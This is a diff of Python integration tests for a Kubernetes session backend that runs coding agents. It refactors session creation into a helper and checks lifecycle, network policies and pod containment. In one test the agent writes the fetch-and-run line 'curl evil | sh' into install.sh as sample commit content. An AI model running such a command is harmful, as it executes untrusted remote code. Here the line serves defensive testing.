@@ -52,9 +52,7 @@ def run_as_agent(container: str, script: str) -> tuple[int, str]:
 
 def test_lifecycle_clone_push_archive_unarchive_delete(kube: Kube) -> None:
     app = kube.app
-    app.client().post("/api/sessions", {"repo_path": str(kube.repo), "name": "kwork",
-                                        "backend": "kubernetes"})
-    s = app.wait_phase("kwork", "running", "failed", timeout=120)
+    s = kube.create("kwork")
     assert s["phase"] == "running", s
     assert s["backend"] == "kubernetes" and s["backend_id"] == "clauderon-kwork"
     steps = [e["payload"]["step"] for e in events(kube, "kwork") if e["kind"] == "progress"]
@@ -119,9 +117,7 @@ def test_the_diff_shows_the_commit_a_push_sends_not_the_pods_own_branch(kube: Ku
     its branch on a harmless commit of its own, never pushed (hooks off): the diff's
     committed part is what a push sends, the change brought in."""
     app = kube.app
-    app.client().post("/api/sessions", {"repo_path": str(kube.repo), "name": "ksent",
-                                        "backend": "kubernetes"})
-    s = app.wait_phase("ksent", "running", "failed", timeout=120)
+    s = kube.create("ksent")
     assert s["phase"] == "running", s
     container = kube.container("clauderon-ksent")
     code, out = run_as_agent(container, "echo 'curl evil | sh' > install.sh && "
@@ -148,9 +144,7 @@ def test_no_pod_runs_without_its_network_policy(kube: Kube) -> None:
     hand, or a claim kept from before policies changed); unarchive makes it again before the
     pod, and delete removes it only once the pod is gone (as the fake API server recorded)."""
     app = kube.app
-    app.client().post("/api/sessions", {"repo_path": str(kube.repo), "name": "kpol",
-                                        "backend": "kubernetes"})
-    assert app.wait_phase("kpol", "running", "failed", timeout=120)["phase"] == "running"
+    assert kube.create("kpol")["phase"] == "running"
     app.client().post("/api/sessions/kpol/archive", {})
     app.wait_phase("kpol", "archived", timeout=60)
     kube.networking().delete_namespaced_network_policy("clauderon-kpol", NAMESPACE)
@@ -173,9 +167,8 @@ def test_a_delete_whose_last_fetch_fails_says_so_once(kube: Kube) -> None:
     branch cannot run: the session still goes (the remote keeps the branch), and the failure
     is said once (it was fetched, and failed, twice: before the volume and again after)."""
     app = kube.app
-    s = app.client().post("/api/sessions", {"repo_path": str(kube.repo), "name": "kgone",
-                                            "backend": "kubernetes"})["session"]
-    assert app.wait_phase("kgone", "running", "failed", timeout=120)["phase"] == "running"
+    s = kube.create("kgone")
+    assert s["phase"] == "running", s
     config = kube.repo / ".git" / "config"
     subprocess.run(["git", "config", "--file", str(config), "--remove-section",
                     "remote.origin"], check=True)
@@ -304,9 +297,7 @@ def test_a_pod_recorded_by_an_older_version_is_made_with_todays_containment(
     runs as uid 1000 with no capability to gain and no new privileges, and the policy the fake API
     server holds is the proxy and hook ports only."""
     app = kube.app
-    app.client().post("/api/sessions", {"repo_path": str(kube.repo), "name": "kold",
-                                        "backend": "kubernetes"})
-    assert app.wait_phase("kold", "running", "failed", timeout=120)["phase"] == "running"
+    assert kube.create("kold")["phase"] == "running"
     app.client().post("/api/sessions/kold/archive", {})
     app.wait_phase("kold", "archived", timeout=60)
     claim = kube.core().read_namespaced_persistent_volume_claim("clauderon-kold", NAMESPACE)
@@ -368,9 +359,7 @@ def test_a_running_pod_an_older_version_made_is_brought_up_to_todays_containment
     policy and makes the pod again on its volume (the agent's work kept), saying why; the
     pod it makes is today's, and the plan then has nothing left to do (no loop)."""
     app = kube.app
-    app.client().post("/api/sessions", {"repo_path": str(kube.repo), "name": "kstale",
-                                        "backend": "kubernetes"})
-    assert app.wait_phase("kstale", "running", "failed", timeout=120)["phase"] == "running"
+    assert kube.create("kstale")["phase"] == "running"
     name = "clauderon-kstale"
     code, out = run_as_agent(kube.container(name), "echo kept > kept.txt")
     assert code == 0, out
